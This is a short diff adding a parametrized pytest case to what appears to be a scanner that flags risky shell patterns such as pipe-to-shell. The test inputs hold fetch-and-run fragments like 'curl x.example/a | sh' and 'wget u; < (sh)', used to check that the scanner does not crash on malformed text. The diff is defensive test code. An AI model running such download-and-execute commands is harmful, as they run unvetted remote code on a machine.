@@ -159,6 +159,11 @@ OTHER_LEVELS = {"host": (ALARM, CAUTION), "pipe-to-shell": (CAUTION,), "decode-a
 """What a rule less sure than the usual one says."""
 
 
+@pytest.mark.parametrize("text", ["curl x.example < (a b)\n", "< (curl x.example/a | sh)\n", "wget u; < (sh)\n"])
+def test_an_input_without_a_command_does_not_raise(text: str) -> None:
+    assert isinstance(find_facts({"a.sh": text}), tuple)
+
+
 @given(TEXTS, st.sampled_from(("SKILL.md", "a.py", "a.sh", "Dockerfile")))
 @settings(deadline=None)
 def test_property_no_text_raises_and_every_fact_is_well_formed(text: str, path: str) -> None:
